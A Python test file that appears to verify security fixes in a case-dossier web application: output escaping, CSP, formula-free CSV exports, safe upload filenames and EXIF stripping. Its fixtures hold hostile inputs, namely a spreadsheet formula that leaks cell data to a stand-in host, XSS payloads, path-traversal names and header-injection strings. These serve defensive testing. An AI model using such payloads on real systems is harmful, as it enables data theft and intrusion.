"""What goes out of the desk does nothing and tells nothing that was not meant to.

Numbers in names are those of the penetration test that ``test_secondary_paths`` tells of.
"""

import io
import re

import pytest
from PIL import Image
from tables.patterns import kosovo
from web.closed import CANARY

from habeas.archive import exhibits, statements
from habeas.numbers import small_cells
from habeas.words.progress import silent
from habeas.workspace import (
    checks,
    deciding,
    telling,
)
from habeas.workspace.adding import add
from habeas.workspace.deciding import Seen
from habeas.workspace.opening import GENERAL
from habeas.workspace.reading import read
from habeas.workspace.weighing import weigh

FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def outgoing(desk, mara, tmp_path):
    """A dossier of a report whose name, words and reason mean ill."""
    place = tmp_path / "in"
    place.mkdir()
    report = (
        f"Twelve men were detained in Orlo on Friday, the spokesman Imre {SCRIPT} Solt said. "
        f"“There are no such people {SCRIPT}”, the ministry told The {FORMULA} Courier.\n"
    )
    (place / f"{FORMULA[:11]}<svg onload=alert(1)>.txt").write_text(report, encoding="utf-8")
    list(add(mara.workspace, (place,), GENERAL, "Given by the cousin of R. in secret.", silent))
    list(read(mara.workspace, (), False, silent))
    said = next(r for r in statements.read_reports(mara.workspace.general) if r.statements)
    said = said.statements[0].identifier
    deciding.reject(mara.workspace, GENERAL, Seen(said, 0), f"{SCRIPT} no news")
    weigh(mara.workspace, GENERAL, silent)
    telling.tell(mara.workspace, GENERAL, tmp_path / "dossier.html")
    return (tmp_path / "dossier.html").read_text(encoding="utf-8")


def test_008_034_039_no_script_goes_out_with_a_dossier(outgoing):
    assert "&lt;script&gt;alert(1)" in outgoing
    assert not re.search(r"<(?:script|iframe|object|embed|form|base)\b", outgoing)
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", re.sub(r'"[^"]*"', '""', outgoing))
    assert not re.search(r"""href=["']?\s*(?:javascript|data|vbscript):""", outgoing, re.IGNORECASE)
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', outgoing)[1]
    assert policy.startswith("default-src &#x27;none&#x27;;")
    assert "script-src" not in policy
    assert "unsafe" not in policy


def test_025_a_dossier_asks_for_nothing_from_elsewhere(outgoing):
    asked = re.findall(
        r"""<(?:img|link|source|video|audio)\b[^>]*(?:src|href)=["']([^"']+)""", outgoing
    )
    assert [one for one in asked if not one.startswith("data:")] == []
    assert re.findall(r"@import|url\((?!\s*[\"']?data:)", outgoing) == []


def test_346_what_the_team_notes_for_itself_is_in_no_dossier(outgoing):
    assert "cousin of R." not in outgoing


def test_024_nothing_the_program_writes_is_a_formula(mara):
    checks.make_checkpoint(mara.workspace, GENERAL)
    note = mara.get(f"/in/{mara.general}/records/checkpoints/1")
    assert note.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert note.headers["Content-Disposition"].startswith("attachment;")
    lines = note.content.decode().splitlines()
    assert [line for line in lines if re.match(r"[=+@\t-].*[(|!]", line)] == []


def test_024_the_one_table_a_page_hands_out_holds_nothing_to_calculate_with():
    """Each of its cells is a number, a sign or a word of ours: the lists have numbers there."""
    from house.source import SOURCE

    web = SOURCE / "web"
    texts = {str(path.relative_to(web)): path.read_text("utf-8") for path in web.rglob("*.py")}
    handing_out = {name for name, text in texts.items() if "Content-Disposition" in text}
    assert handing_out == {
        "exhibits/media.py",
        "records/checking.py",
        "cases/surrounding.py",  # a handover, sealed
        "referrals/views.py",  # a pack, sealed
        "submissions/handing.py",  # a form as HTML or DOCX, or sealed
        "counts/views.py",  # counts of patterns, small ones hidden
    }
    tables = [name for name, text in texts.items() if re.search("csv|openpyxl|xlsx", text)]
    assert tables == ["counts/views.py"]
    table = small_cells.as_csv(kosovo())
    cells = [cell for line in table.splitlines() for cell in line.split(",")]
    assert [one for one in cells if not re.fullmatch(r"list \d+|count|hidden|\d+|\*", one)] == []
    assert len(cells) > 10


NAMES = (
    "../../../etc/passwd", "..\\..\\autoexec.bat", "/etc/passwd", "a\r\nSet-Cookie: x=1.txt",
    'a"; filename="b.exe', "\u202egpj.exe", "con.txt", "......", "имя письма.txt",
    "x" * 300 + ".txt",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_004_a_name_leads_out_of_no_folder_and_into_no_header(mara, tmp_path, name):
    before = {path for path in tmp_path.rglob("*") if "vault" not in path.parts}
    content = io.BytesIO(b"Nobody is held, the spokesman said.")
    content.name = "report.txt"
    where = f"/in/{mara.general}/exhibits"
    answer = mara.post(f"{where}/add", file=content, name=name, why="", part="1")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "application/json"
    (exhibit,) = [x.identifier for x in exhibits.exhibits(mara.workspace.general) if x.name == name]
    saved = mara.post(f"{where}/{exhibit}/save").headers["Content-Disposition"]
    assert saved.startswith("attachment; filename")
    assert not re.search(r"[\r\n/\\\u202e]|\.\.", saved.replace("''", ""))
    assert saved.count('"') in (0, 2)
    assert "Set-Cookie" not in mara.get(f"{where}/{exhibit}").headers
    assert {path for path in tmp_path.rglob("*") if "vault" not in path.parts} <= before | {
        path for path in tmp_path.rglob("*") if "compartments" in path.parts
    }


def turned():
    """A picture 40 wide and 20 high that says it is to be turned by a quarter."""
    drawn, told = Image.new("RGB", (40, 20), "#803020"), Image.Exif()
    told[0x0112] = 6
    told[0x010E] = CANARY
    held = io.BytesIO()
    drawn.save(held, "JPEG", exif=told)
    held.seek(0)
    held.name = "gate.jpg"
    return held


def test_357_a_picture_is_shown_upright_and_without_what_its_file_says(mara):
    where = f"/in/{mara.general}/exhibits"
    mara.post(f"{where}/add", file=turned(), why="", part="1")
    (exhibit,) = [
        x.identifier for x in exhibits.exhibits(mara.workspace.general) if x.name == "gate.jpg"
    ]
    answer = mara.get(f"{where}/{exhibit}/original/1")
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    with Image.open(io.BytesIO(answer.content)) as shown:
        assert shown.size == (20, 40)
        assert dict(shown.getexif()) == {}
    assert CANARY.encode() not in answer.content
